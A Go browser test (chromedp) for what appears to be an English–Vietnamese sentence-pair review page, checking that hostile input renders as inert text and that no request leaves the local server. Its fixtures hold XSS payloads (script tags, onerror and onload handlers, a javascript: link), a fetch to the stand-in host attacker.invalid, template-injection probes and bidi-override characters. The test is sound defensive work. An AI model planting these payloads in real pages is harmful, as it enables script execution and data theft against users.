package page_test

import (
	"net/url"
	"strings"
	"testing"

	"github.com/chromedp/chromedp"
)

// hostile are sentences that would do something if they were taken for anything
// but text.
var hostile = []pair{
	{en: []string{`<script>document.title = "taken"; fetch("http://attacker.invalid/script")</script>`}, vi: []string{`<img src="http://attacker.invalid/x.png" onerror="document.title='taken'">`}, confidence: .4},
	{en: []string{`</textarea><svg onload="document.title='taken'"><a href="javascript:alert(1)">here</a>`}, vi: []string{"\u202engược \u200fchiều\u202c và \u2066cô lập\u2069\u200b."}, confidence: .5},
	{en: []string{strings.Repeat("a very long sentence without an end, ", 290)}, vi: []string{strings.Repeat("dài", 4000)}, confidence: .6},
	{en: []string{"A quiet sentence at the end."}, vi: []string{"Một câu yên ả ở cuối."}, confidence: .99},
	{en: []string{"&lt;b&gt; &amp; {{7*7}} ${7*7} %s"}, vi: []string{"\U0001F6A3\U0001F3FD thuyền \U0001F4DA sách"}, confidence: .95},
}

// What is in the file is shown as text, whatever it is; nothing of it runs, and
// no request leaves the machine.
func TestAttack(t *testing.T) {
	address := start(t, hostile)
	b := open(t, address, size(1360, 860, 1))
	b.keys("n", "n", "n", "Home")
	b.at("<script>")
	if got := value[string](b, `document.querySelector(".pair.current .en .text").textContent`); got != hostile[0].en[0] {
		t.Errorf("shown is %q", got)
	}
	b.has(".pair.current .vi", `<img src="http://attacker.invalid/x.png" onerror=`)
	if n := value[int](b, `document.querySelectorAll("#canvas script, #canvas img, #canvas a, #doubts img, #doubts script").length`); n != 0 {
		t.Errorf("%d elements were made of text", n)
	}
	// In the editor and as a note too, and where the note is shown.
	b.keys("o")
	b.wait(`document.activeElement.matches("textarea")`)
	b.run(chromedp.KeyEvent(`<img src=x onerror="document.title='taken'">`))
	b.keys("Enter")
	b.has(".pair.current .remark.note", "<img src=x onerror=")
	// What steers the direction stays within its sentence, and can be seen.
	if got := value[string](b, `[...document.querySelectorAll(".pair .control")].map((c) => c.dataset.code).join(" ")`); !strings.Contains(got, "U+202E") {
		t.Errorf("of characters that cannot be seen these are shown: %q", got)
	}
	// The longest sentence does not push the page wider than the window.
	if over := value[bool](b, `document.documentElement.scrollWidth > innerWidth || document.querySelector("#scroller").scrollWidth > document.querySelector("#scroller").clientWidth`); over {
		t.Error("the page is wider than the window")
	}
	b.at("A quiet sentence")
	if title := value[string](b, "document.title"); strings.Contains(title, "taken") {
		t.Errorf("something ran: the title is %q", title)
	}
	b.clean()
	b.local(address)
}

// local fails the test where a request went anywhere but to the server.
func (b *tab) local(address string) {
	b.t.Helper()
	home, err := url.Parse(address)
	if err != nil {
		b.t.Fatal(err)
	}
	b.mu.Lock()
	defer b.mu.Unlock()
	if len(b.asked) < 10 {
		b.t.Errorf("only %d requests were seen", len(b.asked))
	}
	for _, s := range b.asked {
		if u, err := url.Parse(s); err != nil || u.Host != home.Host {
			b.t.Errorf("a request went to %q", s)
		}
	}
}
